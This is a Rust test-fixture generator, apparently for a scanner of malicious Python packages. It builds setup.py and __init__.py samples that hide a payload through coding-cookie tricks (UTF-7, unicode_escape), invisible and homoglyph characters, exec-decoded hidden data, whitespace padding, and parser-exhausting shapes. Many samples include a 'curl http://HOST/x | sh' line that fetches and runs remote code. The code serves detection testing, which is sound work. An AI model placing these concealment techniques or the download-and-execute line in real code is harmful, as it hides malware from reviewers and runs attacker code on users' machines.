//! Sources: codecs in which a comment is code, text that hides, and shapes that break parsers.

use crate::case::*;

/// An sdist with this `setup.py`, and a wheel with this `__init__.py`.
fn places(source: &[u8]) -> [(&'static str, &'static str, Vec<u8>); 2] {
    let setup = [source, b"\n", SETUP].concat();
    [("setup", SDIST, sdist_setup(&setup)), ("init", WHEEL, wheel_zip(&[("demo/__init__.py", source)]).bytes())]
}

pub(crate) fn utf7(text: &str) -> String {
    use base64::{Engine as _, engine::general_purpose::STANDARD_NO_PAD};
    let units: Vec<u8> = text.encode_utf16().flat_map(u16::to_be_bytes).collect();
    format!("+{}-", STANDARD_NO_PAD.encode(units))
}

pub(crate) fn codecs() -> Vec<Case> {
    let mut cases = Cases::new(Row::Codecs);
    let evil = String::from_utf8(short_payload()).unwrap();
    let mut seen = |name: &str, source: &[u8], rule: &'static str| {
        for (place, file, bytes) in places(source) {
            cases.seen(format!("{name}-{place}"), file, bytes, rule);
        }
    };
    let rule = "source-deceptive-encoding";
    // Code inside what a reader of UTF-8 takes for a comment.
    for alias in ["utf-7", "utf_7", "U7", "unicode-1-1-utf-7", "UTF7"] {
        seen(
            &format!("utf7-{}", alias.replace('_', "u")),
            format!("# coding: {alias}\n# {}\n", utf7(&format!("\n{evil}"))).as_bytes(),
            rule,
        );
    }
    seen("utf7-all", format!("# coding: utf-7\n{}\n", utf7(&evil)).as_bytes(), rule);
    let escaped: String = evil.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
    seen("unicode-escape-newline", format!("# coding: unicode_escape\n# \\n{}\n", evil.trim_end()).as_bytes(), rule);
    seen("unicode-escape-all", format!("# coding: unicode-escape\n# \\n{escaped}\n").as_bytes(), rule);
    seen("unicode-escape-octal", format!("# coding: unicode_escape\n# \\12{}\n", evil.trim_end()).as_bytes(), rule);
    seen(
        "unicode-escape-named",
        format!("# coding: unicode_escape\n# \\N{{LINE FEED}}{}\n", evil.trim_end()).as_bytes(),
        rule,
    );
    let escaped: String = evil.bytes().map(|byte| format!("\\u{:04x}", u32::from(byte))).collect();
    seen(
        "raw-unicode-escape-newline",
        format!("# coding: raw_unicode_escape\n# \\u000a{}\n", evil.trim_end()).as_bytes(),
        rule,
    );
    seen("raw-unicode-escape-all", format!("# coding: raw-unicode-escape\n# \\u000a{escaped}\n").as_bytes(), rule);
    // The second byte of a character is a backslash or a quote: where a string ends depends on the codec.
    for (name, codec) in [
        ("gbk", "gbk"),
        ("big5", "big5"),
        ("shift-jis", "shift_jis"),
        ("cp932", "cp932"),
        ("gb18030", "gb18030"),
        ("cp950", "cp950"),
        ("johab", "johab"),
        ("hkscs", "big5hkscs"),
        ("cp949", "cp949"),
        ("sjis-2004", "shift_jis_2004"),
    ] {
        let lead: &[u8] = if name.contains("jis") || name == "cp932" { b"\x95" } else { b"\xd5" };
        let mut source = format!("# coding: {codec}\nx = '").into_bytes();
        source.extend(lead);
        source.extend(b"\\'\n");
        source.extend(evil.as_bytes());
        source.extend(b"y = '");
        source.extend(lead);
        source.extend(b"\\'\n");
        seen(&format!("backslash-in-{name}"), &source, "");
    }
    for codec in ["iso-2022-jp", "iso2022_jp", "iso2022_jp_2", "iso2022_jp_3", "iso2022_jp_ext", "iso2022_kr", "hz"] {
        // Shifted, the letters are characters; shifted back, they are code.
        let (shift, back): (&[u8], &[u8]) = match codec {
            "hz" => (b"~{", b"~}"),
            "iso2022_kr" => (b"\x0e", b"\x0f"),
            _ => (b"\x1b$B", b"\x1b(B"),
        };
        let source =
            [format!("# coding: {codec}\nx = '").as_bytes(), shift, b"!!", back, b"'\n", evil.as_bytes()].concat();
        seen(&format!("shift-in-{codec}"), &source, "");
    }
    seen("hz-line-continuation", [&b"# coding: hz\n# ~\n"[..], evil.as_bytes()].concat().as_slice(), "");
    seen("hz-newline-in-comment", [&b"# coding: hz\nx = 1 # ~\n+ 1\n"[..], evil.as_bytes()].concat().as_slice(), "");
    // EBCDIC and other tables in which ASCII letters are not where one looks.
    for codec in ["cp037", "cp500", "cp1140", "cp273", "cp424", "cp875", "cp1026"] {
        cases_told_places(&mut cases, &format!("ebcdic-{codec}"), format!("# coding: {codec}\n# {evil}").as_bytes());
    }
    let mut seen = |name: &str, source: &[u8], rule: &'static str| {
        for (place, file, bytes) in places(source) {
            cases.seen(format!("{name}-{place}"), file, bytes, rule);
        }
    };
    // Where CPython looks for a cookie.
    let shifted = utf7(&format!("\n{evil}"));
    seen("cookie-line-two", format!("#!/usr/bin/env python\n# coding: utf-7\n# {shifted}\n").as_bytes(), rule);
    seen("cookie-after-blank", format!("\n# coding: utf-7\n# {shifted}\n").as_bytes(), rule);
    seen("cookie-form-feed", format!("\x0c# coding: utf-7\n# {shifted}\n").as_bytes(), rule);
    seen("cookie-vim", format!("# vim: set fileencoding=utf-7 :\n# {shifted}\n").as_bytes(), rule);
    seen("cookie-emacs", format!("# -*- mode: python; coding: utf-7 -*-\n# {shifted}\n").as_bytes(), rule);
    seen("cookie-no-space", format!("#coding=utf-7\n# {shifted}\n").as_bytes(), rule);
    seen("cookie-in-word", format!("# xcoding:utf-7\n# {shifted}\n").as_bytes(), rule);
    seen("cookie-tabs", format!("#\tcoding:\t\tutf-7\n# {shifted}\n").as_bytes(), rule);
    seen("cookie-upper", format!("# coding: UTF_7\n# {shifted}\n").as_bytes(), rule);
    seen("cookie-windows-lines", format!("# x\r\n# coding: utf-7\r\n# {shifted}\r\n").as_bytes(), rule);
    seen("cookie-bare-return", format!("# x\r# coding: utf-7\r# {shifted}\r").as_bytes(), rule);
    seen("cookie-far-right", format!("#{}coding: utf-7\n# {shifted}\n", " ".repeat(9000)).as_bytes(), rule);
    seen("cookie-contradicts-mark", format!("\u{feff}# coding: utf-7\n# {shifted}\n{evil}").as_bytes(), rule);
    seen("unknown-codec", format!("# coding: pyinstaller-magic\n{evil}").as_bytes(), rule);
    for codec in [
        "rot13",
        "hex",
        "base64",
        "zlib",
        "bz2",
        "punycode",
        "idna",
        "undefined",
        "mbcs",
        "oem",
        "palmos",
        "utf-16",
        "utf-32",
        "utf_8_sig_x",
    ] {
        seen(&format!("codec-{codec}"), format!("# coding: {codec}\n{evil}").as_bytes(), "");
    }
    let wide: Vec<u8> = [vec![0xff, 0xfe], evil.encode_utf16().flat_map(u16::to_le_bytes).collect()].concat();
    seen("utf16-le", &wide, "");
    let wide: Vec<u8> = [vec![0xfe, 0xff], evil.encode_utf16().flat_map(u16::to_be_bytes).collect()].concat();
    seen("utf16-be", &wide, "");
    let wide: Vec<u8> = evil.encode_utf16().flat_map(u16::to_le_bytes).collect();
    seen("utf16-unmarked", &wide, "");
    // Bytes that end or join lines for some.
    seen("bare-return", format!("# a comment\r{}\r", evil.trim_end()).as_bytes(), "");
    seen("zero-byte", format!("x = 1\n\0\n{evil}").as_bytes(), "");
    seen("zero-byte-in-comment", format!("# \0\n{evil}").as_bytes(), "");
    seen("zero-byte-behind", format!("{evil}\0\0\0").as_bytes(), "");
    seen("form-feed", format!("x = 1\n\x0c{evil}").as_bytes(), "");
    seen("vertical-tab", format!("x = 1\n# \x0b{evil}{evil}").as_bytes(), "");
    seen("line-separator", format!("# \u{2028}\n{evil}").as_bytes(), "");
    seen("next-line", format!("# \u{85}\n{evil}").as_bytes(), "");
    seen("end-of-file-mark", format!("x = 1\n\x1a\n{evil}").as_bytes(), "");
    seen("not-utf8", &[b"# \xff\xfe\xfd\n", evil.as_bytes()].concat(), "");

    let mut clear = |name: &str, source: &[u8]| {
        for (place, file, bytes) in places(source) {
            cases.clear(format!("honest-{name}-{place}"), file, bytes);
        }
    };
    clear("bom", "\u{feff}\"\"\"Says hello.\"\"\"\nx = 'é'\n".as_bytes());
    clear("bom-and-cookie", "\u{feff}# -*- coding: utf-8 -*-\nx = 'é'\n".as_bytes());
    clear("latin-1", b"# -*- coding: latin-1 -*-\nx = '\xe9'\n");
    clear("iso-8859-15", b"# coding: iso-8859-15\nx = '\xa4'\n");
    clear("cp1252", b"# vim: set fileencoding=cp1252 :\nx = '\x93quoted\x94'\n");
    clear("gbk", b"# coding: gbk\nx = '\xc4\xe3\xba\xc3'\n");
    clear("gb2312", b"# coding: gb2312\nx = '\xc4\xe3\xba\xc3'\n");
    clear("big5", b"# coding: big5\nx = '\xa7\x41\xa6\x6e'\n");
    clear("shift-jis", b"# coding: shift_jis\nx = '\x93\xfa\x96\x7b'\n");
    clear("euc-jp", b"# coding: euc-jp\nx = '\xc6\xfc\xcb\xdc'\n");
    clear("euc-kr", b"# coding: euc-kr\nx = '\xb0\xa1'\n");
    clear("koi8-r", b"# coding: koi8-r\nx = '\xc1\xc2'\n");
    clear("ascii", b"# coding: ascii\nx = 1\n");
    clear("utf8-alias", "# coding: UTF8\nx = 'é'\n".as_bytes());
    clear("utf-8-unix", "# -*- coding: utf-8-unix -*-\nx = 'é'\n".as_bytes());
    clear("crlf", b"\"\"\"Says hello.\"\"\"\r\n\r\nx = 1\r\n");
    clear("form-feed", b"x = 1\n\x0c\ny = 2\n");
    clear("no-last-newline", b"x = 1");
    clear("empty", b"");
    clear("tabs", b"def f():\n\treturn 1\n");
    clear("coding-in-line-three", b"\n\n# coding: utf-7\nx = 1\n");
    clear("coding-in-prose", b"# The encoding of this file is plain.\nx = 1\n");
    clear("continuation", b"x = 1 + \\\n    2\n");
    cases.all
}

fn cases_told_places(cases: &mut Cases, name: &str, source: &[u8]) {
    for (place, file, bytes) in places(source) {
        cases.told(format!("{name}-{place}"), file, bytes, "");
    }
}

pub(crate) fn text() -> Vec<Case> {
    let mut cases = Cases::new(Row::Text);
    let evil = String::from_utf8(payload()).unwrap();
    let short = String::from_utf8(short_payload()).unwrap();
    let mut seen = |name: &str, source: &str, rule: &'static str| {
        for (place, file, bytes) in places(source.as_bytes()) {
            cases.seen(format!("{name}-{place}"), file, bytes, rule);
        }
    };
    seen("blank-lines", &format!("x = 1\n{}{evil}", "\n".repeat(60_000)), "source-pushed-down");
    seen("blank-lines-with-spaces", &format!("x = 1\n{}{evil}", "    \n".repeat(20_000)), "source-pushed-down");
    seen("blank-lines-with-form-feeds", &format!("x = 1\n{}{evil}", "\x0c\n".repeat(5_000)), "source-pushed-down");
    seen("comments", &format!("{}{evil}", "# x\n".repeat(60_000)), "");
    seen("pushed-right", &format!("x = 1{};{}", " ".repeat(3000), short), "source-pushed-right");
    seen("pushed-right-tabs", &format!("x = 1{};{}", "\t".repeat(600), short), "source-pushed-right");
    seen("behind-docstring", &format!("'''{}'''\n{evil}", "word ".repeat(400_000)), "");
    seen("bidi-comment", &format!("# \u{202e}end\u{2066}\n{evil}"), "");
    seen("bidi-string", &format!("x = 'a\u{202e}b\u{2066}c'\n{evil}"), "");
    seen("zero-width", &format!("x = 'a\u{200b}\u{200c}\u{200d}\u{2060}b'\n{evil}"), "");
    let wide = |text: &str| -> String {
        text.chars()
            .map(|c| match c {
                'a'..='z' => char::from_u32(0x1d41a + u32::from(c) - u32::from('a')).unwrap(),
                other => other,
            })
            .collect()
    };
    seen("nfkc-mathematical", &format!("import os\nos.{}('curl http://{HOST}/x | sh')\n", wide("system")), "");
    seen("nfkc-exec", &evil.replace("exec", &wide("exec")), "");
    seen("nfkc-fullwidth", &evil.replace("exec", "ｅｘｅｃ"), "");
    seen(
        "nfkc-ligature",
        &format!("import subprocess\nsubprocess.run('curl http://{HOST}/x | sh', shell=True)\n")
            .replace("subprocess", "ſubproceſs"),
        "",
    );
    seen("nfkc-import", &format!("import {}\nos.system('curl http://{HOST}/x | sh')\n", "ºs"), "");
    seen("homoglyphs", &format!("еxec = exec\nоs = __import__('os')\nоs.system('curl http://{HOST}/x | sh')\n"), "");
    let selectors: String = short
        .bytes()
        .map(|byte| {
            char::from_u32(if byte < 16 { 0xfe00 + u32::from(byte) } else { 0xe0100 + u32::from(byte) - 16 }).unwrap()
        })
        .collect();
    let decoder = "exec(bytes([ord(c)-0xfe00 if ord(c)<0xfe10 else ord(c)-0xe0100+16 for c in data]).decode())\n";
    cases_told(&mut cases, "variation-selectors", &format!("data = '{}'\n{decoder}", selectors.repeat(6)));
    let tags: String = short.bytes().map(|byte| char::from_u32(0xe0000 + u32::from(byte)).unwrap()).collect();
    cases_told(
        &mut cases,
        "tag-characters",
        &format!("data = '{}'\nexec(''.join(chr(ord(c)-0xe0000) for c in data))\n", tags.repeat(6)),
    );
    let bits: String = short
        .bytes()
        .flat_map(|byte| (0..8).map(move |bit| if byte >> bit & 1 == 1 { '\u{200b}' } else { '\u{200c}' }))
        .collect();
    cases_told(
        &mut cases,
        "zero-width-bits",
        &format!(
            "data = '{bits}'\nexec(bytes(int(data[i:i+8].replace('\\u200b','1').replace('\\u200c','0')[::-1],2) for i in range(0,len(data),8)))\n"
        ),
    );
    let private: String = short.bytes().map(|byte| char::from_u32(0xe000 + u32::from(byte)).unwrap()).collect();
    cases_told(
        &mut cases,
        "private-use",
        &format!("data = '{}'\nexec(''.join(chr(ord(c)-0xe000) for c in data))\n", private.repeat(6)),
    );
    let hangul: String = short
        .bytes()
        .flat_map(|byte| (0..8).map(move |bit| if byte >> bit & 1 == 1 { '\u{3164}' } else { '\u{ffa0}' }))
        .collect();
    cases_told(
        &mut cases,
        "hangul-fillers",
        &format!(
            "data = '{hangul}'\nexec(bytes(int(data[i:i+8].replace('\\u3164','1').replace('\\uffa0','0')[::-1],2) for i in range(0,len(data),8)))\n"
        ),
    );
    let blanks: String =
        short.bytes().flat_map(|byte| (0..8).map(move |bit| if byte >> bit & 1 == 1 { '\t' } else { ' ' })).collect();
    cases_told(
        &mut cases,
        "blanks-as-bits",
        &format!(
            "data = '''{blanks}'''\nexec(bytes(int(data[i:i+8].replace('\\t','1').replace(' ','0')[::-1],2) for i in range(0,len(data),8)))\n"
        ),
    );
    let mut seen = |name: &str, source: &str, rule: &'static str| {
        for (place, file, bytes) in places(source.as_bytes()) {
            cases.seen(format!("{name}-{place}"), file, bytes, rule);
        }
    };
    seen("semicolon-line", &format!("x = 1; y = 2; {short}"), "");
    seen("continued-lines", &format!("import \\\n os;os \\\n . \\\n system('curl http://{HOST}/x | sh')\n"), "");
    seen("last-line-of-many", &format!("{}{evil}", "def f():\n    return 1\n\n".repeat(20_000)), "");
    seen("inside-type-comment", &format!("x = 1  # type: int\n{evil}"), "");
    seen(
        "hidden-in-default",
        &format!("def f(x=__import__('os').system('curl http://{HOST}/x | sh')):\n    return x\n"),
        "",
    );
    seen(
        "hidden-in-decorator",
        &format!("import os\n@(lambda f: os.system('curl http://{HOST}/x | sh'))\ndef f():\n    pass\n"),
        "",
    );
    seen("hidden-in-annotation", &format!("import os\nx: os.system('curl http://{HOST}/x | sh') = 1\n"), "");
    seen(
        "hidden-in-class",
        &format!("import os\nclass A(os.system('curl http://{HOST}/x | sh') or object):\n    pass\n"),
        "",
    );
    seen("hidden-in-assert", &format!("import os\nassert os.system('curl http://{HOST}/x | sh') or True\n"), "");
    seen("hidden-in-f-string", &format!("import os\nx = f\"{{os.system('curl http://{HOST}/x | sh')}}\"\n"), "");

    let mut clear = |name: &str, source: &str| {
        for (place, file, bytes) in places(source.as_bytes()) {
            cases.clear(format!("honest-{name}-{place}"), file, bytes);
        }
    };
    clear("emoji", "x = '👩\u{200d}💻 ❤\u{fe0f} 🏳\u{fe0f}\u{200d}🌈'\n");
    clear("arabic", "x = 'مرحبا بالعالم'\n# تعليق\n");
    clear("hebrew", "x = 'שלום עולם'\n# הערה\n");
    clear("greek-names", "Δt = 1\nµ = 2\nσ2 = Δt * µ\n");
    clear("cyrillic-names", "имя = 'Анна'\nвозраст = 42\n");
    clear("chinese-names", "名字 = '你好'\n");
    clear("persian-joiner", "x = 'می\u{200c}خواهم'\n");
    clear("soft-hyphen", "x = 'co\u{ad}operate'\n");
    clear("nbsp", "x = 'a\u{a0}b'\n");
    clear("forty-blank-lines", &format!("x = 1\n{}y = 2\n", "\n".repeat(40)));
    clear("long-line", &format!("x = '{}'\n", "word ".repeat(300)));
    clear(
        "aligned",
        "x = {\n    'a':                                   1,\n    'b':                                   2,\n}\n",
    );
    cases.all
}

fn cases_told(cases: &mut Cases, name: &str, source: &str) {
    for (place, file, bytes) in places(source.as_bytes()) {
        cases.told(format!("{name}-{place}"), file, bytes, "");
    }
}

pub(crate) fn depth() -> Vec<Case> {
    let mut cases = Cases::new(Row::Depth);
    let evil = String::from_utf8(payload()).unwrap();
    let n = 50_000;
    let shapes: Vec<(&str, String)> = vec![
        ("parentheses", format!("x = {}1{}\n", "(".repeat(n), ")".repeat(n))),
        ("parentheses-open", "(".repeat(n)),
        ("lists", format!("x = {}{}\n", "[".repeat(n), "]".repeat(n))),
        ("dicts", format!("x = {}1{}\n", "{1:".repeat(n), "}".repeat(n))),
        ("below-two-hundred", format!("x = {}1{}\n", "(".repeat(190), ")".repeat(190))),
        ("calls", format!("x = {}1{}\n", "f(".repeat(n), ")".repeat(n))),
        ("call-chain", format!("x = f{}\n", "()".repeat(n))),
        ("subscripts", format!("x = a{}\n", "[0]".repeat(n))),
        ("attributes", format!("x = a{}\n", ".b".repeat(n))),
        ("sums", format!("x = a{}\n", "+b".repeat(n))),
        ("sums-of-text", format!("x = 'a'{}\n", "+'b'".repeat(n))),
        ("powers", format!("x = 2{}\n", "**2".repeat(n))),
        ("minus", format!("x = {}1\n", "-".repeat(n))),
        ("not", format!("x = {}1\n", "not ".repeat(n))),
        ("conditions", format!("x = {}0\n", "1 if a else ".repeat(n))),
        ("comparisons", format!("x = a{}\n", "<b".repeat(n))),
        ("booleans", format!("x = a{}\n", " and b".repeat(n))),
        ("lambdas", format!("x = {}1\n", "lambda: ".repeat(n))),
        ("many-lambdas", "x = lambda a: a\n".repeat(n)),
        ("indents", (0..3000).map(|depth| format!("{}if x:\n", " ".repeat(depth))).collect()),
        (
            "indents-ninety",
            (0..95).map(|depth| format!("{}if x:\n", " ".repeat(depth))).chain(["  ".repeat(95) + "pass\n"]).collect(),
        ),
        ("elif", format!("if a:\n    pass\n{}", "elif b:\n    pass\n".repeat(20_000))),
        (
            "else-if",
            (0..900)
                .map(|depth| format!("{0}if a:\n{0} pass\n{0}else:\n", " ".repeat(depth)))
                .chain([" ".repeat(901) + "pass\n"])
                .collect(),
        ),
        ("decorators", format!("{}def f(): pass\n", "@d\n".repeat(20_000))),
        (
            "nested-functions",
            (0..90)
                .map(|depth| format!("{}def f():\n", " ".repeat(depth)))
                .chain([" ".repeat(91) + "pass\n"])
                .collect(),
        ),
        (
            "nested-classes",
            (0..90)
                .map(|depth| format!("{}class A:\n", " ".repeat(depth)))
                .chain([" ".repeat(91) + "pass\n"])
                .collect(),
        ),
        ("f-strings", format!("x = {}1{}\n", "f'{".repeat(150), "}'".repeat(150))),
        ("f-strings-many", format!("x = {}1{}\n", "f'{".repeat(5000), "}'".repeat(5000))),
        ("f-string-formats", format!("x = f'{{a:{}}}'\n", "{b:".repeat(2000) + &"}".repeat(2000))),
        ("comprehensions", format!("x = {}y{}\n", "[".repeat(150), " for a in b]".repeat(150))),
        ("comprehension-clauses", format!("x = [a{}]\n", " for a in b".repeat(20_000))),
        ("stars", format!("x = {}\n", "*a, ".repeat(n))),
        ("arguments", format!("def f({}): pass\n", (0..n).map(|k| format!("a{k}, ")).collect::<String>())),
        ("integer-digits", format!("x = {}\n", "9".repeat(1_000_000))),
        ("integer-hex", format!("x = 0x{}\n", "f".repeat(1_000_000))),
        ("integer-power", "x = 9 ** 9 ** 9 ** 9\ny = 1 << 10 ** 12\n".to_owned()),
        (
            "text-times",
            "x = 'a' * 10 ** 12\ny = [0] * 10 ** 12\nz = '%1000000000d' % 1\nw = '{:1000000000}'.format(1)\n"
                .to_owned(),
        ),
        ("text-doubling", format!("x = 'aaaaaaaaaaaaaaaa'\n{}", "x = x + x\n".repeat(60))),
        ("replace-bomb", format!("x = 'a'\n{}", "x = x.replace('a', 'aaaaaaaaaa')\n".repeat(30))),
        ("join-bomb", format!("x = 'ab'\n{}", "x = x.join(x)\n".repeat(10))),
        ("format-bomb", format!("x = 'a'\n{}", "x = f'{x}{x}{x}{x}'\n".repeat(40))),
        ("zfill-bomb", "x = 'a'.zfill(10 ** 11).center(10 ** 11).ljust(10 ** 12)\n".to_owned()),
        ("range-loop", "x = ''\nfor i in range(10 ** 12):\n    x += chr(i % 64)\n".to_owned()),
        (
            "nested-loops",
            format!(
                "x = 0\n{}{}x += 1\n",
                (0..40).map(|depth| format!("{}for i{depth} in range(1000):\n", " ".repeat(depth))).collect::<String>(),
                " ".repeat(40)
            ),
        ),
        ("while-true", "x = 0\nwhile True:\n    x += 1\n".to_owned()),
        ("recursion", "def f(n):\n    return f(n + 1) + f(n + 2)\nf(0)\n".to_owned()),
        (
            "mutual-recursion",
            (0..500)
                .map(|k| format!("def f{k}(a):\n    return f{}(a) + f{}(a)\n", (k + 1) % 500, (k + 7) % 500))
                .chain(["f0(1)\n".to_owned()])
                .collect(),
        ),
        ("one-long-line", format!("x = [{}]\n", "1,".repeat(2_000_000))),
        ("long-names", format!("{} = 1\n", "a".repeat(2_000_000))),
        ("many-names", (0..200_000).map(|k| format!("a{k} = {k}\n")).collect()),
        ("many-imports", (0..50_000).map(|k| format!("import m{k}\n")).collect()),
        ("dotted-import", format!("import {}a\n", "a.".repeat(n))),
        ("many-strings", "x = ('a' 'b' 'c' 'd')\n".repeat(100_000)),
        ("adjacent-strings", format!("x = ({})\n", "'a' ".repeat(300_000))),
        ("backslashes", format!("x = 1{}\n", " + \\\n1".repeat(n))),
        ("semicolons", format!("{}\n", "x=1;".repeat(300_000))),
        ("open-string", format!("x = '''{}", "text ".repeat(500_000))),
        ("quotes", format!("x = {}\n", "'\"".repeat(500_000))),
        ("match-flood", format!("import base64\n{}", "x = base64.b64decode('aGVsbG8=')\n".repeat(50_000))),
        ("exec-flood", "exec('x = 1')\n".repeat(20_000)),
        ("redos-like", format!("x = '{}'\n", "a".repeat(1_000_000) + "!")),
        ("hex-flood", format!("x = '{}'\n", "\\x41".repeat(500_000))),
        ("base64-flood", format!("x = '{}'\n", "QUJD".repeat(1_000_000))),
        ("walrus", format!("x = {}1{}\n", "(a := ".repeat(150), ")".repeat(150))),
        (
            "match-statement",
            format!("match x:\n{}", (0..20_000).map(|k| format!("    case {k}:\n        pass\n")).collect::<String>()),
        ),
        ("nested-patterns", format!("match x:\n    case {}a{}:\n        pass\n", "[".repeat(150), "]".repeat(150))),
        ("try-nested", (0..90).map(|depth| format!("{}try:\n", " ".repeat(depth))).collect()),
        ("with-items", format!("with {}: pass\n", "a as b, ".repeat(20_000) + "c")),
        (
            "globals",
            format!("def f():\n    global {}\n", (0..50_000).map(|k| format!("a{k}")).collect::<Vec<_>>().join(",")),
        ),
        ("await-chain", format!("async def f():\n    x = {}a\n", "await ".repeat(n))),
        ("unpack-assign", format!("{} = x\n", "a, ".repeat(n))),
        ("assign-chain", format!("{}x\n", "a = ".repeat(n))),
        ("type-hints", format!("x: {}int{} = 1\n", "list[".repeat(5000), "]".repeat(5000))),
        ("return-flood", format!("def f():\n{}", "    return 1\n".repeat(100_000))),
    ];
    let layers = {
        use base64::{Engine as _, engine::general_purpose::STANDARD};
        let mut code = String::from_utf8(short_payload()).unwrap();
        let mut all = Vec::new();
        for depth in 1..=40 {
            code = format!("import base64\nexec(base64.b64decode('{}'))\n", STANDARD.encode(&code));
            if matches!(depth, 3 | 10 | 20) {
                all.push((depth, code.clone()));
            }
            if code.len() > 400_000 {
                break;
            }
        }
        all
    };
    for (depth, code) in layers {
        cases.seen(format!("layers-{depth}"), SDIST, sdist_setup(&[code.as_bytes(), SETUP].concat()), "");
    }
    // With the payload in front and behind: whatever the shape does to the parser, the bytes and tokens were read.
    for (name, shape) in &shapes {
        let source = format!("{evil}{shape}");
        cases.seen(format!("{name}-behind"), SDIST, sdist_setup(source.as_bytes()), "");
        if *name == "open-string" {
            // What follows is inside the string.
            continue;
        }
        let source = format!("{shape}\n{evil}");
        cases.seen(format!("{name}-before"), WHEEL, wheel_zip(&[("demo/__init__.py", source.as_bytes())]).bytes(), "");
    }
    let mut clear = |name: &str, source: &str| {
        cases.clear(format!("honest-{name}"), SDIST, sdist_with(&[("demo/table.py", source.as_bytes())]));
    };
    clear("table", &format!("TABLE = [\n{}]\n", "    (1, 'a', 2.5),\n".repeat(20_000)));
    clear("long-literal", &format!("TEXT = '''\n{}'''\n", "A line of text.\n".repeat(20_000)));
    clear(
        "elif-chain",
        &format!(
            "def f(a):\n    if a == 0:\n        return 0\n{}",
            (1..200).map(|k| format!("    elif a == {k}:\n        return {k}\n")).collect::<String>()
        ),
    );
    clear("nested-twenty", &format!("x = {}1{}\n", "(".repeat(20), ")".repeat(20)));
    clear("big-integer", &format!("PRIME = {}\n", "1234567890".repeat(60)));
    clear("long-sum", &format!("x = (0{})\n", "\n     + 1".repeat(300)));
    clear("many-functions", &"def f():\n    return 1\n\n\n".repeat(3000));
    cases.all
}
